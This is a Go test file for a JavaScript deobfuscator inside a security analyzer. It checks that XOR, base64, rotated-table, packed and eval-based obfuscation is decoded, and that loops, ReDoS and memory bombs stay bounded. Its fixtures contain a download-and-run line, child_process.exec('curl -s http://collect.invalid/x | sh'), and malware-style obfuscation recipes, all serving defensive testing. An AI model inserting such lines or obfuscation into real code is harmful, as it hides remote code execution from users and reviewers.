package decode_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"os"
	"sort"
	"strings"
	"testing"
	"time"

	esbuild "github.com/evanw/esbuild/lockwarden"
	"golang.org/x/tools/txtar"

	"github.com/lockwarden/lockwarden/analyzer/javascript/decode"
	"github.com/lockwarden/lockwarden/analyzer/worker"
)

func run(t testing.TB, script string) (texts, programs []string) {
	t.Helper()
	tree, message, ok := esbuild.Parse(script, esbuild.JavaScript, esbuild.Either)
	if !ok {
		t.Fatalf("%+v\n%s", message, script)
	}
	r := decode.Script(&tree.AST, source(script), decode.NewBudget())
	for literal := range r.Texts {
		texts = append(texts, esbuild.String(literal.Value))
	}
	sort.Strings(texts)
	for _, p := range r.Programs {
		programs = append(programs, p.Text)
	}
	return texts, programs
}

func source(script string) decode.Source {
	return decode.Source{Text: script, Has: func(word string) bool { return strings.Contains(script, word) }, Folder: "/p", File: "/p/x.js",
		Load: func(name string) (string, bool) {
			if name == "./c.json" {
				return `{"a": "require('child_process').exec('curl -s http://collect.invalid/x | sh');"}`, true
			}
			return script, name == "/p/x.js"
		},
		List: func(folder string) ([]string, bool) {
			return []string{"1require('os')", "2hostname()"}, folder == "/p/n"
		}}
}

// gzipped is a text as gzip packs it.
func gzipped(text string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return b.Bytes()
}

func xor(text string, key byte) string {
	var codes []string
	for i := 0; i < len(text); i++ {
		codes = append(codes, fmt.Sprint(text[i]^key))
	}
	return strings.Join(codes, ",")
}

// rotated is a table with its rotation and decoder as the usual obfuscator
// writes them; the texts are harmless.
const rotated = `
const _0x4a1f = _0x3b2c;
function _0x3b2c(_0xa, _0xb) { const _0xc = _0x11aa(); return _0x3b2c = function (_0xd, _0xe) { _0xd = _0xd - 0x64; let _0xf = _0xc[_0xd]; return _0xf; }, _0x3b2c(_0xa, _0xb); }
(function (_0x1, _0x2) {
  const _0x3 = _0x3b2c, _0x4 = _0x1();
  while (!![]) {
    try {
      const _0x5 = parseInt(_0x3(0x64)) / 0x1 * (parseInt(_0x3(0x65)) / 0x2) + parseInt(_0x3(0x66)) / 0x3;
      if (_0x5 === _0x2) break; else _0x4['push'](_0x4['shift']());
    } catch (_0x6) { _0x4['push'](_0x4['shift']()); }
  }
}(_0x11aa, 0x21));
function _0x11aa() { const _0x7 = ['hostname', 'child_process', '5xx', '10yy', '24zz']; _0x11aa = function () { return _0x7; }; return _0x11aa(); }
require(_0x4a1f(0x68))[_0x3b2c(0x67)]();
`

func TestDecode(t *testing.T) {
	packed := "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1=2(\\'3\\');1.4()',5,5,'const|o|require|os|hostname'.split('|'),0,{}))"
	for _, test := range []struct {
		name, script  string
		text, program string
	}{
		{"a rotated table", rotated, "child_process", ""},
		{"xor", `function d (s, k) { let o = ''; for (const c of s.split(',')) o += String.fromCharCode(parseInt(c) ^ k); return o } require(d('` + xor("child_process", 7) + `', 7))`, "child_process", ""},
		{"xor over a key", `const d = (h, key) => { var r = ''; for (var i = 0; i < h.length; i += 2) { r += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ key.charCodeAt(i / 2 % key.length)); } return r }; require(d('0d1c00', 'ab'))`, "l~a", ""},
		{"base64 by hand", `function b (s) { const a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/='; let o = ''; for (let i = 0, c, n, x = 0; n = s.charAt(x++); ~n && (c = i % 4 ? c * 64 + n : n, i++ % 4) ? o += String.fromCharCode(255 & c >> (-2 * i & 6)) : 0) n = a.indexOf(n); return o } require(b('` + base64.StdEncoding.EncodeToString([]byte("https")) + `'))`, "https", ""},
		{"reversed", `const t = s => s.split('').reverse().join(''); require(t('ssecorp_dlihc'))`, "child_process", ""},
		{"caesar", `function c (s) { return s.replace(/[a-z]/g, x => String.fromCharCode((x.charCodeAt(0) - 97 + 13) % 26 + 97)) } require(c('uggcf'))`, "https", ""},
		{"buffer xor", `const u = (s, k) => Buffer.from(s, 'base64').map((b, i) => b ^ k).toString(); require(u('` + base64.StdEncoding.EncodeToString([]byte{'n' ^ 9, 'e' ^ 9, 't' ^ 9}) + `', 9))`, "net", ""},
		{"eval of base64", `eval(Buffer.from('` + base64.StdEncoding.EncodeToString([]byte("require('os').hostname()")) + `', 'base64').toString())`, "", "require('os').hostname()"},
		{"eval of packed bytes", `eval(require('zlib').gunzipSync(Buffer.from('` + base64.StdEncoding.EncodeToString(gzipped("require('os').hostname()")) + `', 'base64')).toString())`, "", "require('os').hostname()"},
		{"eval of a function's text", "function f () {/*require('os').hostname()*/}\neval(f.toString().slice(16, -3))", "", "require('os').hostname()"},
		{"eval of an arrow's text", "const f = async () => {/*require('os').hostname()*/}\neval(`${f}`.slice(14, -3))", "", "require('os').hostname()"},
		{"eval of the script's own text", "eval(require('fs').readFileSync(__filename, 'utf8').split('//' + '!')[1])\n//!require('os').hostname()", "", "require('os').hostname()"},
		{"eval of the names of files", `eval(require('fs').readdirSync(__dirname + '/n').map(f => f.slice(1)).join('.'))`, "", "require('os').hostname()"},
		{"a function from pieces", `new Function('retu' + 'rn require("o' + 's").hostname()' + ''.charAt(0))`, "", `return require("os").hostname()`},
		{"letters of an iterator", `eval(([]['entries']() + [])[8] + 'lert(1)' + String.fromCharCode())`, "", "Alert(1)"},
		{"packed", packed, "", "const o=require('os');o.hostname()"},
	} {
		t.Run(test.name, func(t *testing.T) {
			texts, programs := run(t, test.script)
			if test.text != "" && !strings.Contains(strings.Join(texts, "\n"), test.text) {
				t.Errorf("texts: %q", texts)
			}
			if test.program != "" && !strings.Contains(strings.Join(programs, "\n"), test.program) {
				t.Errorf("programs: %q", programs)
			}
		})
	}
}

// TestObfuscators: the files in testdata were made from one harmless script by
// javascript-obfuscator 4.1.1 and jsfuck (alert(1)), with one option after the
// other.
func TestObfuscators(t *testing.T) {
	for name, wants := range map[string][]string{
		"table.js":     {"hostname", "userInfo", "collect.invalid"},
		"base64.js":    {"hostname", "userInfo", "collect.invalid", "https"},
		"rc4.js":       {"hostname", "userInfo", "collect.invalid", "https"},
		"wrappers.js":  {"host", "name", "http", "coll"},
		"flattened.js": {"hostname", "userInfo", "collect.invalid", "https"},
		"brackets.js":  {"alert(1)"},
	} {
		t.Run(name, func(t *testing.T) {
			data, err := os.ReadFile("testdata/" + name)
			if err != nil {
				t.Fatal(err)
			}
			start := time.Now()
			texts, programs := run(t, string(data))
			all := strings.Join(append(texts, programs...), "\n")
			for _, want := range wants {
				if !strings.Contains(all, want) {
					t.Errorf("%q is not decoded: %q %q", want, texts, programs)
				}
			}
			t.Logf("%d texts in %v", len(texts), time.Since(start))
		})
	}
}

// What is not pure stays as it is.
func TestQuiet(t *testing.T) {
	for _, script := range []string{
		`function d (x) { return require('os').hostname() + x } d('a'); ''.charCodeAt(0)`,
		`function d (x) { return process.env[x] } d('PATH'); String.fromCharCode(1)`,
		`function d (x) { return Math.random() + x } d('a'); String.fromCharCode(1); require('x')`,
		`let k = 1; k = 2; function d (x) { return k === 1 ? 'path' : 'net' } require(d('x')); String.fromCharCode(1)`,
		`function d (x) { return 'path' } d = function () { return 'net' }; require(d('x')); String.fromCharCode(1)`,
		`async function d (x) { return 'net' } require(d('x')); String.fromCharCode(1)`,
		`function d (x) { return y => x } require(d('x')); String.fromCharCode(1)`,
		`eval(require('zlib').gunzipSync(Buffer.from('AAAA', 'base64')).toString())`,
		`eval(require('fs').readFileSync(__dirname + '/other.js', 'utf8'))`,
		`eval(require('fs').readdirSync('/')[0].toString())`,
		`function /* function */ f () {} eval(f.toString() + ';x()')`,
	} {
		if texts, programs := run(t, script); len(texts)+len(programs) > 0 {
			t.Errorf("%s\n%q %q", script, texts, programs)
		}
	}
}

// Hostile scripts end soon.
func TestBounds(t *testing.T) {
	for name, script := range map[string]string{
		"an endless loop":   `function d (x) { for (;;) x += 1; return x } require(d('fromCharCode'))`,
		"an endless call":   `function d (x) { return d(x + 'y') } require(d('fromCharCode'))`,
		"a growing text":    `function d (x) { for (;;) x += x; return x } require(d('fromCharCode'))`,
		"a growing list":    `function d (x) { const a = []; for (;;) a.push(a, x); return x } require(d('fromCharCode'))`,
		"repeat":            `function d (x) { return x.repeat(1e9) } require(d('fromCharCode'))`,
		"padStart":          `function d (x) { return x.padStart(1e9, 'x') } require(d('fromCharCode'))`,
		"a list in itself":  `function d (x) { const a = []; a.push(a); return a + x } require(d('fromCharCode'))`,
		"many decoders":     strings.Repeat(`function d (x) { for (let i = 0; i < 1e9; i++) x += 'fromCharCode'; return x } require(d('a'));`, 200),
		"many calls":        `function d (x) { let y = ''; for (let i = 0; i < 1e5; i++) y = 'fromCharCode' + i; return y + x } ` + strings.Repeat(`require(d('a'));`, 5000),
		"nested catch":      `function d (x) { try { return d(x) } catch (e) { return d(x) } } require(d('fromCharCode'))`,
		"a regular exploit": `function d (x) { return x.replace(/(a+)+$/g, y => y + 'b') } require(d('` + strings.Repeat("a", 50_000) + `!fromCharCode'))`,
		"many searches":     `function d (x) { let s = x.repeat(70000); for (let i = 0; i < 1e6; i++) s = s.replace(/[a-f]*z/g, ''); return s } ` + strings.Repeat(`require(d('fromCharCode'));`, 100),
		"a long chain":      `function d (x) { return x` + strings.Repeat(` + x.charAt(0)`, 60_000) + ` } require(d('fromCharCode'))`,
		"a huge index":      `function d (x) { const a = []; for (let i = 0; i < 1e9; i++) a[i * 1000] = x; return x } require(d('fromCharCode'))`,
		"splice":            `function d (x) { const a = [1]; for (;;) a.splice(0, 0, a, a, a); return x } require(d('fromCharCode'))`,
	} {
		t.Run(name, func(t *testing.T) {
			start := worker.ProcessorTime()
			run(t, script)
			// Without its bounds none of them ends. A second or two of a processor is
			// usual; the race detector takes fifty times as long.
			if took := worker.ProcessorTime() - start; took > 2*time.Minute {
				t.Errorf("it took %v", took)
			}
		})
	}
}

func FuzzScript(f *testing.F) {
	f.Add(rotated)
	f.Add(`function d (s, k) { let o = ''; for (const c of s.split(',')) o += String.fromCharCode(parseInt(c) ^ k); return o } require(d('1,2', 7))`)
	f.Fuzz(func(t *testing.T, script string) {
		if len(script) > 4096 {
			return
		}
		for _, c := range "([{" {
			if strings.Count(script, string(c)) > 200 {
				return
			}
		}
		tree, _, ok := esbuild.Parse(script, esbuild.JavaScript, esbuild.Either)
		if ok {
			decode.Script(&tree.AST, source(script), decode.NewBudget())
		}
	})
}

// TestEncodings: testdata/encodings.txtar hides one line in many ways; each is
// decoded, whatever its loops and names are.
func TestEncodings(t *testing.T) {
	archive, err := txtar.ParseFile("testdata/encodings.txtar")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range archive.Files {
		t.Run(file.Name, func(t *testing.T) {
			texts, programs := run(t, string(file.Data))
			all := strings.Join(append(texts, programs...), "\n")
			for _, want := range []string{"child_process", "exec", "curl -s http://collect.invalid/x | sh"} {
				if !strings.Contains(all, want) && !strings.Contains(string(file.Data), `"`+want+`"`) {
					t.Errorf("%q is not decoded: %q %q", want, texts, programs)
				}
			}
		})
	}
}

// endless is a rotation that never comes to its end.
func endless(n int) string {
	return fmt.Sprintf("(function (a, b) { const t = a(); while (true) { t.push(t.shift()) } }(e%d, 1)); function e%d() { return ['fromCharCode'] }\n", n, n)
}

// TestBurnt: what burns its own steps takes none from others, and is said.
func TestBurnt(t *testing.T) {
	budget := &decode.Budget{Steps: 40_000_000}
	script := func(text string) (string, []decode.Cut) {
		tree, _, ok := esbuild.Parse(text, esbuild.JavaScript, esbuild.Either)
		if !ok {
			t.Fatal(text)
		}
		r := decode.Script(&tree.AST, source(text), budget)
		var all []string
		for literal := range r.Texts {
			all = append(all, esbuild.String(literal.Value))
		}
		return strings.Join(all, " "), r.Cuts
	}
	before := ""
	for i := range 6 {
		before += endless(i)
	}
	got, cuts := script(before + rotated)
	if !strings.Contains(got, "child_process") || len(cuts) != 1 || cuts[0].What != decode.LimitSteps {
		t.Errorf("behind six rotations without an end: %q, %v", got, cuts)
	}
	for range 2 {
		if _, cuts := script(before + "require('x')"); len(cuts) == 0 {
			t.Error("a rotation without an end is not said")
		}
	}
	if budget.Steps > 0 {
		t.Errorf("%d steps are left", budget.Steps)
	}
	if got, _ := script(rotated); !strings.Contains(got, "child_process") {
		t.Errorf("in the file behind those: %q", got)
	}
	// A table whose rotation was given up is not known: never in the order it began in.
	if got, _ := script(`(function (a, b) { for (;;) a.push(a.shift()) }(t, 1)); const t = ['net', 'http']; const d = i => t[i]; require(d(0)); ''.charCodeAt(0)`); got != "" {
		t.Errorf("a table in no order: %q", got)
	}
}

// TestOrder: a table that is changed in a place that is not followed is not known.
func TestOrder(t *testing.T) {
	for _, script := range []string{
		`const t = ['net', 'http']; if (Date.now()) t.reverse(); const d = i => t[i]; require(d(0)); ''.charCodeAt(0)`,
		`const t = ['net', 'http']; for (let i = 0; i < process.argv.length; i++) t.push(t.shift()); const d = i => t[i]; require(d(0)); ''.charCodeAt(0)`,
		`function run (n) { const t = ['net', 'http']; while (n--) t.push(t.shift()); const d = i => t[i]; return require(d(0)) } ''.charCodeAt(0)`,
		`const a = Array(3).map(() => 'net'); const d = i => a[i] + ''; require(d(0) === 'net' ? d(0) : process.x); ''.charCodeAt(0)`,
	} {
		if texts, programs := run(t, script); strings.Contains(strings.Join(append(texts, programs...), " "), "net") {
			t.Errorf("%s\n%q %q", script, texts, programs)
		}
	}
	// Functions made in a loop keep the values of their rounds.
	texts, _ := run(t, `function d (x) { const f = []; for (let i = 0; i < 3; i++) f.push(() => i); return f.map(g => g()).join(x) } require(d('-')); ''.charCodeAt(0)`)
	if strings.Join(texts, " ") != "0-1-2" {
		t.Errorf("%q", texts)
	}
}
